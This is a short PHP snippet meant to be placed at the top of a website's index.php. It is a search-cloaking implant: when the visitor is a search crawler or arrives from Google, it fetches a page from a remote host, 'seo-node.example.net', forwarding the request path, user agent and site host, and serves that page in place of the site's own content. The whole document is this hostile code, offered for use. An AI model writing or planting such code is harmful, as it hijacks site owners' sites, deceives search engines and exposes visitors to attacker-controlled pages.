<?php
// put at the top of index.php: crawlers and search visitors get pages the remote host writes
$agent = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';
$from = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
$bot = preg_match('/googlebot|bingbot|yandex|baiduspider/i', $agent);
if ($bot || stripos($from, 'google.') !== false) {
    $node = 'seo-node.example.net';
    $q = rawurlencode($_SERVER['REQUEST_URI']);
    $a = rawurlencode($agent);
    $target = "http://$node/p.php?u=$q&a=$a&h=" . $_SERVER['HTTP_HOST'];
    $page = file_get_contents($target);
    if ($page) {
        echo $page;
        exit;
    }
}
